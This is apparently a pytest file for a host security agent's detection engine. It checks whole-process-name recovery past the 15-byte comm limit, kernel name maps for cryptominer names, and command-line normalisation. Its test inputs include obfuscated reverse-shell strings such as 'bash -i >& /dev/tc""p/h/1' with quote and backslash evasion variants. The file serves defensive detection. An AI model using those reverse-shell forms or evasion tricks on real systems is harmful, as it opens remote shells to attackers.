"""Fields computed from a process when a rule asks: the whole name past the 15-byte comm,
and the normalised command line (quotes and backslashes removed, lower case)."""

from __future__ import annotations

from typing import Any

import pytest

from agent.codec import event_from_json
from agent.engine.kernel import exec_spec
from agent.engine.schema import FIELDS, normalise


def proc(**kw: Any):
    return event_from_json({"process": kw})


@pytest.mark.parametrize("process,name", [
    # comm below 15 bytes is whole
    ({"exe": "/usr/bin/grep", "cmdline": ["grep"]}, "grep"),
    # cut by the kernel, continued by the executable's name
    ({"exe": "/h/cpuminer-avx512-benchmark-report", "cmdline": ["x"]},
     "cpuminer-avx512-benchmark-report"),
    # exactly 15 bytes and whole
    ({"exe": "/h/cpuminer-avx512", "cmdline": ["./cpuminer-avx512"]}, "cpuminer-avx512"),
    # a `#!/usr/bin/python3` script: comm is the script's name, the exe the interpreter's
    ({"exe": "/usr/bin/python3.11", "comm": "bloodhound-pyth",
      "cmdline": ["/opt/venv/bin/python", "/opt/venv/bin/bloodhound-python", "-h"]},
     "bloodhound-python"),
    # `#!/bin/bash -e`: the script after the interpreter's argument
    ({"exe": "/usr/bin/bash", "comm": "cpuminer-avx512",
      "cmdline": ["/bin/bash", "-e", "./cpuminer-avx512-bench.sh"]}, "cpuminer-avx512-bench.sh"),
    # nothing continues it (a scan without a readable exe, a name set by prctl): comm
    ({"comm": "cpuminer-avx512", "cmdline": ["/h/x"]}, "cpuminer-avx512"),
    ({"exe": "/h/kworker", "comm": "phoenixminer-ex", "cmdline": ["kworker"]}, "phoenixminer-ex"),
    # a name that does not start with comm is no continuation
    ({"exe": "/h/other-long-program-name", "comm": "cpuminer-avx512", "cmdline": ["x"]},
     "cpuminer-avx512"),
])
def test_proc_name_is_the_whole_name_when_comm_was_cut(process, name):
    assert FIELDS["proc.name"].get(proc(**process)) == name


def test_parent_and_ancestor_names_are_whole_too():
    e = proc(exe="/usr/bin/grep", cmdline=["grep"],
             ancestors=[{"exe": "/h/cpuminer-avx512-benchmark-report", "cmdline": ["x"]}])
    assert FIELDS["parent.name"].get(e) == "cpuminer-avx512-benchmark-report"
    assert FIELDS["ancestor.name"].get(e) == ["cpuminer-avx512-benchmark-report"]


def test_name_rules_compare_whole_names(rules_from):
    rs = rules_from("rules:\n  - id: r\n    match: {proc.name: [cpuminer-avx512, "
                    "phoenixminer-extra-long]}\n")
    fired = [bool(rs.evaluate(proc(**p))) for p in (
        {"exe": "/h/cpuminer-avx512-benchmark-report", "cmdline": ["x"]},
        {"exe": "/h/cpuminer-avx512", "cmdline": ["x"]},
        {"exe": "/opt/phoenixminer-extra-long", "cmdline": ["x"]},
        # whole name unknown: the cut comm still matches the long value's first 15 bytes
        {"comm": "phoenixminer-ex", "cmdline": ["x"]},
        {"exe": "/opt/phoenixminer-extra-longer", "cmdline": ["x"]},
    )]
    assert fired == [False, True, True, True, False]


def test_kernel_name_map_leaves_names_of_15_bytes_or_more_to_userspace():
    match = {"any": [{"proc.name": {"in": ["xmrig", "cpuminer-avx512", "a-very-long-miner"]}},
                     {"proc.exe_name": {"in": ["minerd", "xmr-stak-nvidia"]}}]}
    spec = exec_spec(match, lambda v: v if isinstance(v, list) else [v], lambda n: None)
    assert spec is not None and spec.names == {"xmrig", "minerd"}
    only_long = {"proc.exe_name": {"in": ["cpuminer-avx512"]}}
    assert exec_spec(only_long, lambda v: v, lambda n: None) is None


@pytest.mark.parametrize("raw,norm", [
    ('bash -i >& /dev/tc""p/h/1', "bash -i >& /dev/tcp/h/1"),
    ("/dev/t'c'p/h/1", "/dev/tcp/h/1"),
    ("/dev/t\\cp/h/1", "/dev/tcp/h/1"),
    ("-o STRATUM+TCP://Pool:3333", "-o stratum+tcp://pool:3333"),
    ("", ""),
])
def test_normalise_drops_quotes_and_backslashes_and_folds_case(raw, norm):
    assert normalise(raw) == norm


def test_normalised_fields_follow_the_process_they_are_asked_for():
    a = proc(exe="/usr/bin/bash", cmdline=["bash", "-c", "X'Y'"])
    b = proc(exe="/usr/bin/bash", cmdline=["bash", "-c", 'Z"W"'])
    # asked in turn (the one-entry cache must not hand one process's form to another)
    assert FIELDS["proc.cmdline_norm"].get(a) == "bash -c xy"
    assert FIELDS["proc.cmdline_norm"].get(b) == "bash -c zw"
    assert FIELDS["proc.args_norm"].get(a) == ("-c", "xy")
    assert FIELDS["proc.args_norm"].get(b) == ("-c", "zw")
    assert FIELDS["proc.cmdline_norm"].get(a) == "bash -c xy"
    assert FIELDS["parent.cmdline_norm"].get(a) is None
